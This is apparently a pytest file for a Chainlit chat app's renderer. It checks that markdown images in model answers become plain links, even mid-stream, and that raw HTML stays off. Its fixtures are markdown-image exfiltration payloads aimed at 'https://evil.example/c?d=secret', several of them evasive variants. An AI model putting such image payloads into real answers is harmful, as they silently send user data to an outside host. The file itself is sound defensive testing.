"""Remote images in model answers and cited passages become plain links, also while streaming."""

from __future__ import annotations

import re
import tomllib
from pathlib import Path

import pytest

from glm1m.chainlit_app.render import StreamedWithoutImages, without_images

ROOT = Path(__file__).resolve().parents[2]
LEAK = "https://evil.example/c?d=secret"
# Anything CommonMark would render as an image: inline, reference, nested in a link, after "!".
IMAGES = [f"![alt]({LEAK})", f"![]({LEAK} \"t\")", "![x][ref]\n\n[ref]: " + LEAK, "![ref]\n\n[ref]: " + LEAK,
          f"[![x]({LEAK})](https://ok.example)", f"wow!![a]({LEAK})", f"\\\\![x]({LEAK})"]


@pytest.mark.parametrize("text", IMAGES)
def test_every_markdown_image_becomes_a_link(text: str) -> None:
    assert "![" not in without_images(text)


def test_text_and_links_stay_as_they_are() -> None:
    text = f"Wow! See [p. 3] and [the terms]({LEAK}); x != y!\n`code`"
    assert without_images(text) == text
    assert without_images(f"Logo: ![logo]({LEAK}).") == f"Logo: [logo]({LEAK})."


def pieces_at(text: str, cuts: tuple[int, ...]) -> list[str]:
    bounds = [0, *cuts, len(text)]
    return [text[a:b] for a, b in zip(bounds, bounds[1:])]


@pytest.mark.parametrize("text", [*IMAGES, f"end!!!", f"a!b![c]({LEAK})!"])
def test_no_moment_of_a_stream_shows_an_image_and_the_end_is_the_whole_rewrite(text: str) -> None:
    # Every way of cutting the text in up to three pieces, as tokens or pacing might.
    for i in range(len(text) + 1):
        for j in range(i, len(text) + 1):
            stream = StreamedWithoutImages()
            shown = ""
            for piece in pieces_at(text, (i, j)):
                shown += stream.feed(piece)
                assert not re.search(r"!\[", shown), (text, i, j, shown)  # what the page renders now
            assert shown + stream.end() == without_images(text)


def test_raw_html_stays_off_so_no_img_tag_renders() -> None:
    config = tomllib.loads((ROOT / "chainlit_app/ui/.chainlit/config.toml").read_text())
    assert config["features"]["unsafe_allow_html"] is False
